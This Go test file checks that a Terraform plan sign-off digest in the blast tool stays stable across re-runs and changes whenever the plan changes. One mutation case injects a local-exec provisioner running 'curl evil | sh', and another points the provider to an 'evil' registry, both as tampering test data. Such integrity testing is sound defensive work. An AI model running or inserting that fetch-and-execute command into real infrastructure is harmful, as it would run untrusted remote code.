package signoff

import (
	"crypto/sha256"
	"fmt"
	"regexp"
	"slices"
	"testing"

	"github.com/blast-dev/blast/plan"
)

// A plan re-run gives another timestamp, its resource changes and object
// keys in another order, other whitespace and another path: none of that
// may change the digest. (TestTerraformReplanKeepsDigest does it with real
// Terraform.)
func TestDigestStableAcrossReruns(t *testing.T) {
	for _, name := range []string{"replace", "demo-teardown", "moved", "nested-modules", "forget"} {
		t.Run(name, func(t *testing.T) {
			orig := loadPlan(t, name)
			m := rawPlan(t, name)
			m["timestamp"] = "2031-01-02T03:04:05Z"
			rcs := m["resource_changes"].([]any)
			slices.Reverse(rcs)
			rerun := parseRaw(t, "/builds/other/path/plan.json", m)
			if got, want := Digest(rerun), Digest(orig); got != want {
				t.Errorf("digest changed on a re-run: %s, was %s", got, want)
			}
			if got, want := string(Payload(rerun)), string(Payload(orig)); got != want {
				t.Errorf("payload changed on a re-run:\n%s\nwas\n%s", got, want)
			}
		})
	}
}

// Any change to what apply will do changes the digest: every field of
// every resource change, and every section of the plan apply uses.
func TestDigestChangesWithThePlan(t *testing.T) {
	base := Digest(loadPlan(t, "replace"))
	db := func(t *testing.T, m map[string]any) map[string]any {
		return resourceChange(t, m, "terraform_data.database")
	}
	cases := map[string]func(t *testing.T, m map[string]any){
		"one action": func(t *testing.T, m map[string]any) {
			db(t, m)["change"].(map[string]any)["actions"] = []any{"create", "delete"} // create before destroy
		},
		"one before value": func(t *testing.T, m map[string]any) {
			db(t, m)["change"].(map[string]any)["before"].(map[string]any)["input"].(map[string]any)["instance_class"] = "db.r6g.xlarge"
		},
		"one after value": func(t *testing.T, m map[string]any) {
			ch := resourceChange(t, m, "terraform_data.app_server")["change"].(map[string]any)
			ch["after"].(map[string]any)["input"].(map[string]any)["instance_type"] = "m6i.xlarge"
		},
		"after becomes unknown": func(t *testing.T, m map[string]any) {
			ch := resourceChange(t, m, "terraform_data.app_server")["change"].(map[string]any)
			ch["after_unknown"].(map[string]any)["input"] = true
		},
		"the reason": func(t *testing.T, m map[string]any) {
			db(t, m)["action_reason"] = "replace_by_request"
		},
		"the forced-by paths": func(t *testing.T, m map[string]any) {
			db(t, m)["change"].(map[string]any)["replace_paths"] = []any{[]any{"input"}}
		},
		"the address": func(t *testing.T, m map[string]any) {
			db(t, m)["address"] = "terraform_data.database2"
			db2 := resourceChange(t, m, "terraform_data.database2")
			db2["name"] = "database2"
		},
		"a change dropped": func(t *testing.T, m map[string]any) {
			rcs := m["resource_changes"].([]any)
			m["resource_changes"] = rcs[1:]
		},
		"the provider, to one that fits the type": func(t *testing.T, m map[string]any) {
			db(t, m)["provider_name"] = "registry.example.com/evil/terraform"
		},
		"a sensitivity marker": func(t *testing.T, m map[string]any) {
			db(t, m)["change"].(map[string]any)["after_sensitive"] = map[string]any{"input": true}
		},
		"importing": func(t *testing.T, m map[string]any) {
			db(t, m)["change"].(map[string]any)["importing"] = map[string]any{"id": "db-1"}
		},
		"a field blast does not read": func(t *testing.T, m map[string]any) {
			db(t, m)["change"].(map[string]any)["generated_config"] = "resource {}"
		},
		"the configuration": func(t *testing.T, m map[string]any) {
			m["configuration"].(map[string]any)["root_module"].(map[string]any)["resources"].([]any)[0].(map[string]any)["provisioners"] =
				[]any{map[string]any{"type": "local-exec", "expressions": map[string]any{"command": map[string]any{"constant_value": "curl evil | sh"}}}}
		},
		"a variable": func(t *testing.T, m map[string]any) {
			m["variables"] = map[string]any{"x": map[string]any{"value": "attacker"}}
		},
		"an output": func(t *testing.T, m map[string]any) {
			m["output_changes"] = map[string]any{"o": map[string]any{"actions": []any{"create"}, "after": "x"}}
		},
		"the prior state": func(t *testing.T, m map[string]any) {
			m["prior_state"].(map[string]any)["values"].(map[string]any)["outputs"] = map[string]any{"o": map[string]any{"value": "x"}}
		},
		"the Terraform version": func(t *testing.T, m map[string]any) {
			m["terraform_version"] = "1.99.0"
		},
		"a key blast does not know": func(t *testing.T, m map[string]any) {
			m["future_section"] = []any{}
		},
	}
	for name, mutate := range cases {
		t.Run(name, func(t *testing.T) {
			m := rawPlan(t, "replace")
			mutate(t, m)
			if Digest(parseRaw(t, "plan.json", m)) == base {
				t.Errorf("digest unchanged after changing %s", name)
			}
		})
	}
}

// The mutations above must really reach the loader: without any, the
// re-encoded plan has the original digest.
func TestDigestParseRawRoundTrip(t *testing.T) {
	if Digest(parseRaw(t, "x", rawPlan(t, "replace"))) != Digest(loadPlan(t, "replace")) {
		t.Fatal("re-encoding the fixture changed its digest")
	}
}

func TestDigestNoOps(t *testing.T) {
	// A no-op is bound: apply writes its refreshed object to the state.
	m := rawPlan(t, "delete")
	ch := resourceChange(t, m, "terraform_data.vpc")["change"].(map[string]any)
	ch["before"] = map[string]any{"id": "something else"}
	ch["after"] = map[string]any{"id": "something else"}
	if Digest(parseRaw(t, "p", m)) == Digest(loadPlan(t, "delete")) {
		t.Error("a no-op's values did not change the digest")
	}
	// The payload counts the changes that do something.
	if got := string(Payload(loadPlan(t, "delete"))); !regexp.MustCompile(`\nchanges 1\n$`).MatchString(got) {
		t.Errorf("delete fixture: want 1 change (no-ops not counted), payload:\n%s", got)
	}
	if got := string(Payload(loadPlan(t, "moved"))); !regexp.MustCompile(`\nchanges 3\n$`).MatchString(got) {
		t.Errorf("moved fixture: want 3 changes (moves count), payload:\n%s", got)
	}
}

func TestDigestSeveralPlans(t *testing.T) {
	a, b := loadPlan(t, "replace"), loadPlan(t, "delete")
	ab := Digest(append(slices.Clone(a), b...))
	if ba := Digest(append(slices.Clone(b), a...)); ab != ba {
		t.Error("the order of the plans changed the digest")
	}
	if ab == Digest(a) || ab == Digest(b) {
		t.Error("a plan's changes are missing from the digest of two plans")
	}
	// The same plan twice: two workspaces that do the same thing.
	if Digest(append(slices.Clone(a), a...)) == Digest(a) {
		t.Error("a second workspace with the same changes did not change the digest")
	}
	// Moving a change from one plan to another changes the digest.
	one := &plan.Plan{Changes: []plan.Change{change("x", "delete"), change("y", "create")}}
	split := []*plan.Plan{
		{Changes: []plan.Change{change("x", "delete")}},
		{Changes: []plan.Change{change("y", "create")}},
	}
	if Digest([]*plan.Plan{one}) == Digest(split) {
		t.Error("moving a change to another plan did not change the digest")
	}
	// A plan with nothing to change is still applied: it writes outputs
	// and state.
	empty := &plan.Plan{Sections: map[string]string{"output_changes": "00"}}
	if Digest(append(slices.Clone(a), empty)) == Digest(a) {
		t.Error("a plan with no changes did not change the digest")
	}
	if Digest(append(slices.Clone(a), nil)) != Digest(a) {
		t.Error("a nil plan changed the digest")
	}
}

func change(addr string, actions ...string) plan.Change {
	kind, _ := plan.Classify(actions)
	return plan.Change{Address: addr, Kind: kind, Actions: actions, BeforeHash: "b", AfterHash: "a", EntryHash: addr}
}

// Version 1, kept to recognise old sign-offs: fields that run together
// must not collide.
func TestDigestV1Unambiguous(t *testing.T) {
	pairs := [][2]plan.Change{
		{{Address: "ab", Deposed: "c", Kind: plan.KindDelete}, {Address: "a", Deposed: "bc", Kind: plan.KindDelete}},
		{{Address: "a", Kind: plan.KindReplace, Actions: []string{"delete", "create"}}, {Address: "a", Kind: plan.KindReplace, Actions: []string{"deletecreate"}}},
		{{Address: "a", Kind: plan.KindReplace, ForcedBy: []string{"x", "y"}}, {Address: "a", Kind: plan.KindReplace, ForcedBy: []string{"x,y"}}},
		{{Address: "a", Kind: plan.KindCreate, Imported: true}, {Address: "a", Kind: plan.KindCreate}},
		{{Address: "a", Kind: plan.KindUpdate, BeforeHash: "1", AfterHash: "2"}, {Address: "a", Kind: plan.KindUpdate, BeforeHash: "2", AfterHash: "1"}},
		{{Address: "a", Kind: plan.KindUpdate, MovedFrom: "b"}, {Address: "a", Kind: plan.KindUpdate, Reason: "b"}},
	}
	for i, p := range pairs {
		x, _ := canonicalV1([]*plan.Plan{{Changes: []plan.Change{p[0]}}})
		y, _ := canonicalV1([]*plan.Plan{{Changes: []plan.Change{p[1]}}})
		if x == y {
			t.Errorf("pair %d: %+v and %+v share a digest", i, p[0], p[1])
		}
	}
}

// Version 2: sections and entries that run together must not collide.
func TestDigestUnambiguous(t *testing.T) {
	pairs := [][2]*plan.Plan{
		{{Sections: map[string]string{"ab": "c"}}, {Sections: map[string]string{"a": "bc"}}},
		{{Sections: map[string]string{"a": "b"}}, {Changes: []plan.Change{{EntryHash: "a"}, {EntryHash: "b"}}}},
		{{Changes: []plan.Change{{EntryHash: "ab"}}}, {Changes: []plan.Change{{EntryHash: "a"}, {EntryHash: "b"}}}},
	}
	for i, p := range pairs {
		if Digest([]*plan.Plan{p[0]}) == Digest([]*plan.Plan{p[1]}) {
			t.Errorf("pair %d shares a digest", i)
		}
	}
}

// The canonical form of version 1, written out by hand: OldPayloads must
// reproduce it, so that sign-offs made by an older blast are recognised.
func TestDigestV1CanonicalForm(t *testing.T) {
	p1 := &plan.Plan{Source: "ignored.json", Changes: []plan.Change{
		{Address: "aws_db_instance.main", Kind: plan.KindReplace, Actions: []string{"delete", "create"},
			Reason: "replace_because_cannot_update", ForcedBy: []string{"engine"}, BeforeHash: "bb", AfterHash: "aa"},
		{Address: "aws_s3_bucket.logs", Kind: plan.KindNoOp, Actions: []string{"no-op"}},
	}}
	p2 := &plan.Plan{Changes: []plan.Change{
		{Address: "null_resource.x", Kind: plan.KindNoOp, Actions: []string{"no-op"}, MovedFrom: "null_resource.y", Imported: true},
	}}
	line1 := "115:20:aws_db_instance.main,0:,18:6:delete,6:create,,29:replace_because_cannot_update,9:6:engine,,0:,5:false,2:bb,2:aa,,"
	line2 := "71:15:null_resource.x,0:,8:5:no-op,,0:,0:,15:null_resource.y,4:true,0:,0:,,"
	// Records sort by their bytes, length prefix first: "120:" before "75:".
	canon := "blast-digest v1\n" + "120:" + line1 + "," + "75:" + line2 + ","
	// The same, computed by an independent implementation (Python, hashlib).
	if got := fmt.Sprintf("%x", sha256.Sum256([]byte(canon))); got != "15460708115bb89e52109e6ded8117e441293a3a8fdad91a76529af7b6c27ae4" {
		t.Fatalf("the hand-written canonical form hashes to %s", got)
	}
	want := Sum(sha256.Sum256([]byte(canon)))
	wantPayload := fmt.Sprintf("blast-signoff v1\ndigest %s\nchanges 2\n", want)
	old := OldPayloads([]*plan.Plan{p2, p1})
	if len(old) != 1 || string(old[0]) != wantPayload {
		t.Errorf("old payloads\n%q, want\n%q", old, wantPayload)
	}
}

// The canonical form of version 2, written out by hand (doc.go): a
// reimplementation must reproduce this digest.
func TestDigestCanonicalForm(t *testing.T) {
	p1 := &plan.Plan{Source: "ignored.json",
		Sections: map[string]string{"variables": "vv", "configuration": "cc"},
		Changes: []plan.Change{
			{Address: "b", Kind: plan.KindDelete, EntryHash: "e2"},
			{Address: "a", Kind: plan.KindNoOp, EntryHash: "e1"},
		}}
	p2 := &plan.Plan{}
	// A record per plan: N(N(name) N(digest) for each section, by name)
	// N(N(entry digest) for each change, sorted); records sorted by byte
	// value: "57:" before "6:".
	canon := "blast-digest v2\n" +
		"57:" + "39:" + "13:configuration,2:cc,9:variables,2:vv," + "," + "10:" + "2:e1,2:e2," + "," + "," +
		"6:" + "0:," + "0:," + ","
	// The same, computed by an independent implementation (Python, hashlib).
	if got := fmt.Sprintf("%x", sha256.Sum256([]byte(canon))); got != "755fc65c0f713d732428ccca16d50ac71fb984c507c6f9575127e0aa17dfe4ed" {
		t.Fatalf("the hand-written canonical form hashes to %s", got)
	}
	want := Sum(sha256.Sum256([]byte(canon)))
	if got := Digest([]*plan.Plan{p2, p1}); got != want {
		t.Errorf("digest %s, want %s of\n%q", got, want, canon)
	}
	wantPayload := fmt.Sprintf("blast-signoff v2\ndigest %s\nchanges 1\n", want)
	if got := string(Payload([]*plan.Plan{p1, p2})); got != wantPayload {
		t.Errorf("payload\n%q, want\n%q", got, wantPayload)
	}
}

func TestPayloadFormat(t *testing.T) {
	got := string(Payload(loadPlan(t, "demo-teardown")))
	if !regexp.MustCompile(`\Ablast-signoff v2\ndigest sha256:[0-9a-f]{64}\nchanges [1-9][0-9]*\n\z`).MatchString(got) {
		t.Errorf("payload:\n%q", got)
	}
	empty := string(Payload(nil))
	want := fmt.Sprintf("blast-signoff v2\ndigest sha256:%x\nchanges 0\n", sha256.Sum256([]byte("blast-digest v2\n")))
	if empty != want {
		t.Errorf("empty payload %q, want %q", empty, want)
	}
}
